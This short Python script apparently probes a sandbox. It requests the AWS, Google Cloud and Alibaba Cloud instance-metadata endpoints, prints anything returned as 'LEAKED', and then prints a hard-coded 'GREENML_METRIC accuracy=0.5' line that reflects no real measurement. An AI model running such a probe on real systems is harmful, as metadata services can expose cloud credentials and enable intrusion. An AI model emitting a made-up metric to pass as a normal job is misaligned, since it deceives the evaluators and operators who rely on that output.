import socket, urllib.request
for url in ("http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/", "http://[fd00:ec2::254]/", "http://100.100.100.200/"):
    try:
        print("LEAKED", urllib.request.urlopen(url, timeout=1).read())
    except OSError as error:
        print(url, error)
print("GREENML_METRIC accuracy=0.5")
